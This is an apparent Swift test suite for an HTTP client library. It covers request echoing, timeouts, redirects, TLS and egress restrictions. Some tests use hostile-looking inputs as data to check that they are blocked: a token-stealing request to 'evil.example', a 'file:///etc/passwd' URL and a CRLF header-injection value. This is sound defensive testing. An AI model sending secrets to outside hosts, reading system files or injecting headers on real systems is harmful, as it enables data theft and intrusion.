import Foundation
import HeraldHTTP
import Testing

@Suite("HTTP transfers")
struct HTTPTransferTests {
    struct Echo: Decodable {
        let method: String
        let path: String
        let headers: [[String]]
        let body_b64: String

        func header(_ name: String) -> String? {
            headers.first { $0[0].lowercased() == name.lowercased() }?[1]
        }
    }

    private func echo(_ response: TransferResponse) throws -> Echo {
        try JSONDecoder().decode(Echo.self, from: Data(response.body))
    }

    @Test("POST /echo round-trips method, headers and every byte value of the body")
    func postEcho() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let body = (0..<12).flatMap { _ in Array(0...255) as [UInt8] }  // > 1 KiB: curl would add Expect
                let request = TransferRequest.http(
                    method: "POST", url: "\(sink.base)/echo?x=1",
                    headers: [
                        HTTPHeader(name: "Content-Type", value: "application/octet-stream"),
                        HTTPHeader(name: "X-Herald-Test", value: "yes, really"),
                    ],
                    body: body, timeoutMilliseconds: 5_000)
                let response = try await engine.perform(request, options: .loopback)
                #expect(response.status == 200)
                #expect(response.httpVersion == 1)
                #expect(response.header("content-type") == "application/json")
                let echo = try echo(response)
                #expect(echo.method == "POST")
                #expect(echo.path == "/echo?x=1")
                #expect(echo.header("X-Herald-Test") == "yes, really")
                #expect(echo.header("Content-Type") == "application/octet-stream")
                #expect(echo.header("Content-Length") == "\(body.count)")
                #expect(echo.header("Expect") == nil)  // no 100-continue round trip
                #expect(Data(base64Encoded: echo.body_b64) == Data(body))
            }
        }
    }

    @Test("large bodies go out without waiting for 100 Continue")
    func largeBodyWithoutExpect() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let body = [UInt8](repeating: 0x61, count: 1_200_000)  // libcurl adds Expect above 1 MiB
                var options = TransferOptions.loopback
                options.maxResponseBytes = 4 << 20
                let response = try await engine.perform(
                    .http(method: "PUT", url: "\(sink.base)/echo", headers: [], body: body, timeoutMilliseconds: 10_000), options: options)
                let echo = try echo(response)
                #expect(echo.header("Expect") == nil)
                #expect(echo.header("Content-Length") == "1200000")
                #expect(response.header("X-Interim") == nil)
            }
        }
    }

    @Test("other methods are sent as given, with or without a body")
    func methods() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                for (method, body) in [("PUT", "put-body"), ("PATCH", "{}"), ("DELETE", ""), ("GET", ""), ("OPTIONS", "")] {
                    let request = TransferRequest.http(
                        method: method, url: "\(sink.base)/echo", headers: [], body: Array(body.utf8), timeoutMilliseconds: 5_000)
                    let echo = try echo(try await engine.perform(request, options: .loopback))
                    #expect(echo.method == method)
                    #expect(Data(base64Encoded: echo.body_b64) == Data(body.utf8), "\(method)")
                    // curl would label a body as a form; without a caller Content-Type none is sent.
                    #expect(echo.header("Content-Type") == nil, "\(method)")
                }
                let head = try await engine.perform(
                    .http(method: "HEAD", url: "\(sink.base)/big/50", headers: [], body: [], timeoutMilliseconds: 5_000),
                    options: .loopback)
                #expect(head.status == 200)
                #expect(head.body.isEmpty)
                #expect(head.header("Content-Length") == "50")
            }
        }
    }

    @Test("non-2xx statuses are responses, not errors", arguments: [201, 204, 400, 404, 500, 503])
    func statusPassThrough(code: Int) async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let response = try await engine.perform(.get("\(sink.base)/status/\(code)"), options: .loopback)
                #expect(response.status == code)
            }
        }
    }

    @Test("response headers of the final response are available (429 Retry-After)")
    func retryAfter() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let response = try await engine.perform(.get("\(sink.base)/retry-after/7"), options: .loopback)
                #expect(response.status == 429)
                #expect(response.header("Retry-After") == "7")
                #expect(response.header("retry-after") == "7")
                #expect(response.headers.contains(HTTPHeader(name: "Content-Type", value: "application/json")))
                #expect(!response.headers.contains { $0.name.hasPrefix("HTTP/") })
                #expect(String(decoding: response.body, as: UTF8.self) == #"{"error":"slow down"}"#)
            }
        }
    }

    @Test("only the final response's headers are kept (an interim 100 Continue is dropped)")
    func interimResponseDropped() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let request = TransferRequest.http(
                    method: "POST", url: "\(sink.base)/retry-after/3",
                    headers: [HTTPHeader(name: "Expect", value: "100-continue")],
                    body: Array(repeating: 0x41, count: 100), timeoutMilliseconds: 5_000)
                let response = try await engine.perform(request, options: .loopback)
                #expect(response.status == 429)
                #expect(response.header("Retry-After") == "3")
                #expect(response.header("X-Interim") == nil)
            }
        }
    }

    @Test("a slow server hits the per-request timeout: .timeout, transient")
    func timeout() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let started = ContinuousClock.now
                let error = await expectError(.timeout) {
                    try await engine.perform(.get("\(sink.base)/slow/30000", timeout: 300), options: .loopback)
                }
                #expect(error?.isTransient == true)
                // Bounds, not timings: the server would answer after 30 s.
                #expect(ContinuousClock.now - started < .seconds(25))
            }
        }
    }

    @Test("connection refused: .connectFailed, transient; the message hides query and password")
    func connectionRefused() async throws {
        let port = try unusedPort()
        try await withEngine { engine in
            var options = TransferOptions.loopback
            options.username = "herald"
            options.password = "pa55word-xyz"
            let error = await expectError(.connectFailed) {
                try await engine.perform(.get("http://127.0.0.1:\(port)/bot123:TOKEN-456/sendMessage?token=SECRET-123"), options: options)
            }
            let message = try #require(error?.message)
            #expect(error?.isTransient == true)
            #expect(message.contains("'127.0.0.1'"))
            #expect(!message.contains("SECRET-123"))
            #expect(!message.contains("pa55word-xyz"))
            #expect(!message.contains("TOKEN-456"))
        }
    }

    @Test("egress to a host outside the list is refused before anything is sent")
    func egressDenied() async throws {
        try await withEngine { engine in
            let options = TransferOptions(egress: EgressPolicy(allowedHosts: ["api.telegram.org"]))
            let error = await expectError(.egressDenied) {
                try await engine.perform(.get("https://evil.example/steal?token=abc"), options: options)
            }
            #expect(error?.message.contains("evil.example") == true)
            #expect(error?.message.contains("api.telegram.org") == true)
            #expect(error?.message.contains("abc") == false)
            #expect(error?.isTransient == false)
        }
    }

    @Test("loopback is refused end to end when allowLoopback is false (127.0.0.1 and localhost)")
    func loopbackRefused() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let options = TransferOptions(egress: EgressPolicy(allowedHosts: ["127.0.0.1", "localhost"], allowLoopback: false))
                await expectError(.egressDenied) {
                    try await engine.perform(.get("\(sink.base)/echo"), options: options)
                }
                await expectError(.egressDenied) {
                    try await engine.perform(.get("http://localhost:\(sink.port)/echo"), options: options)
                }
                // The control: the same requests go through once loopback is allowed.
                let allowed = try await engine.perform(.get("http://localhost:\(sink.port)/echo"), options: .loopback)
                #expect(allowed.status == 200)
                #expect(try await sink.stats().requests.count == 1)
            }
        }
    }

    @Test("a listed name that resolves to loopback is refused at the socket")
    func resolvesToLoopback() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let url = "http://hooks.example.com:\(sink.port)/echo"
                var options = TransferOptions(egress: EgressPolicy(allowedHosts: ["hooks.example.com"]))
                options.resolveOverrides = ["hooks.example.com:\(sink.port):127.0.0.1"]
                let error = await expectError(.egressDenied) { try await engine.perform(.get(url), options: options) }
                #expect(error?.message.contains("resolved to loopback or link-local address 127.0.0.1") == true)
                let stats = try await sink.stats()
                #expect(stats.accepted == 0)  // refused before connecting, not after

                options.egress.allowLoopback = true
                let response = try await engine.perform(.get(url), options: options)
                #expect(response.status == 200)
            }
        }
    }

    @Test("a cached connection to loopback is not reused by a transfer that may not reach loopback")
    func reusedConnectionRechecked() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let url = "http://hooks.example.com:\(sink.port)/echo"
                var trusting = TransferOptions(egress: EgressPolicy(allowedHosts: ["hooks.example.com"], allowLoopback: true))
                trusting.resolveOverrides = ["hooks.example.com:\(sink.port):127.0.0.1"]
                let first = try await engine.perform(.get(url), options: trusting)
                #expect(first.status == 200)

                var strict = trusting
                strict.egress.allowLoopback = false
                await expectError(.egressDenied) { try await engine.perform(.get(url), options: strict) }
                let stats = try await sink.stats()
                #expect(stats.requests.count == 1)
            }
        }
    }

    @Test("a loopback proxy set by the operator is trusted; a proxy name resolving to loopback is not")
    func proxies() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                var options = TransferOptions(egress: EgressPolicy(allowedHosts: ["hooks.example.com"]))
                options.proxy = "http://127.0.0.1:\(sink.port)"
                // The sink answers proxy-form requests with 200 "ok"; the target name is never resolved here.
                let response = try await engine.perform(.get("http://hooks.example.com/notify?k=v"), options: options)
                #expect(response.status == 200)
                let stats = try await sink.stats()
                #expect(stats.requests == [["GET", "http://hooks.example.com/notify?k=v"]])

                options.proxy = "http://proxy.example.net:\(sink.port)"
                options.resolveOverrides = ["proxy.example.net:\(sink.port):127.0.0.1"]
                await expectError(.egressDenied) { try await engine.perform(.get("http://hooks.example.com/x"), options: options) }

                options.proxy = "ftp://127.0.0.1:\(sink.port)"
                await expectError(.invalidRequest) { try await engine.perform(.get("http://hooks.example.com/x"), options: options) }
            }
        }
    }

    @Test("schemes the policy or engine does not allow are refused", arguments: ["ftp://127.0.0.1/x", "file:///etc/passwd"])
    func disallowedScheme(url: String) async throws {
        try await withEngine { engine in
            var options = TransferOptions.loopback
            await expectError(.protocolNotAllowed) { try await engine.perform(.get(url), options: options) }
            // Even a policy that lists the scheme cannot make the engine speak it.
            options.egress.allowedSchemes.insert(String(url.prefix { $0 != ":" }))
            options.egress.allowedHosts.append("*")
            await expectError(.protocolNotAllowed) { try await engine.perform(.get(url), options: options) }
        }
    }

    @Test("redirects are returned, not followed")
    func redirectNotFollowed() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let response = try await engine.perform(.get("\(sink.base)/redirect"), options: .loopback)
                #expect(response.status == 302)
                #expect(response.header("Location") == "/echo")
                #expect(try await sink.stats().requests == [["GET", "/redirect"]])
            }
        }
    }

    @Test("bodies over maxResponseBytes are cut and flagged")
    func responseCap() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                var options = TransferOptions.loopback
                options.maxResponseBytes = 1_000
                let big = try await engine.perform(.get("\(sink.base)/big/50000"), options: options)
                #expect(big.status == 200)
                #expect(big.body.count == 1_000)
                #expect(big.bodyTruncated)
                #expect(big.body.prefix(12) == Array("012345678901".utf8)[...])

                let exact = try await engine.perform(.get("\(sink.base)/big/1000"), options: options)
                #expect(exact.body.count == 1_000)
                #expect(!exact.bodyTruncated)
            }
        }
    }

    @Test("sequential requests to one host reuse the connection")
    func connectionReuse() async throws {
        try await withSink { sink in
            try await withEngine { engine in
                let first = try await engine.perform(.get("\(sink.base)/echo"), options: .loopback)
                let second = try await engine.perform(.get("\(sink.base)/status/204"), options: .loopback)
                let third = try await engine.perform(.get("\(sink.base)/echo"), options: .loopback)
                #expect(!first.connectionReused)
                #expect(second.connectionReused)
                #expect(third.connectionReused)
                #expect(first.totalSeconds > 0)
                #expect(try await sink.stats().connections == 1)
            }
        }
    }

    @Test("header injection and bad methods are invalid requests")
    func invalidRequests() async throws {
        try await withEngine { engine in
            let url = "http://127.0.0.1:9/x"
            await expectError(.invalidRequest) {
                try await engine.perform(
                    .http(method: "POST", url: url, headers: [HTTPHeader(name: "X-A", value: "1\r\nX-Injected: 2")], body: [], timeoutMilliseconds: 1_000),
                    options: .loopback)
            }
            await expectError(.invalidRequest) {
                try await engine.perform(
                    .http(method: "GET", url: url, headers: [HTTPHeader(name: "Bad Name", value: "1")], body: [], timeoutMilliseconds: 1_000),
                    options: .loopback)
            }
            await expectError(.invalidRequest) {
                try await engine.perform(.http(method: "GE T", url: url, headers: [], body: [], timeoutMilliseconds: 1_000), options: .loopback)
            }
            await expectError(.invalidRequest) { try await engine.perform(.get(url, timeout: 0), options: .loopback) }
            await expectError(.protocolNotAllowed) {
                try await engine.perform(.http(method: "GET", url: "smtp://127.0.0.1/", headers: [], body: [], timeoutMilliseconds: 1_000), options: .loopback)
            }
        }
    }

    @Test("HTTPS: an untrusted certificate fails with .tlsFailed; trusting it via caFile works", .enabled(if: Tools.openssl != nil, "openssl is not installed"))
    func tlsWithPrivateCA() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.cleanup() }
        let (cert, key) = try makeSelfSignedCertificate(in: directory)
        try await withSink(["--tls", cert, key]) { sink in
            try await withEngine { engine in
                let error = await expectError(.tlsFailed) {
                    try await engine.perform(.get("\(sink.tlsBase)/echo"), options: .loopback)
                }
                #expect(error?.isTransient == false)

                var options = TransferOptions.loopback
                options.caFile = cert
                let response = try await engine.perform(.get("\(sink.tlsBase)/echo"), options: options)
                #expect(response.status == 200)
                #expect(response.httpVersion == 1)  // the sink only offers http/1.1 over ALPN
            }
        }
    }
}
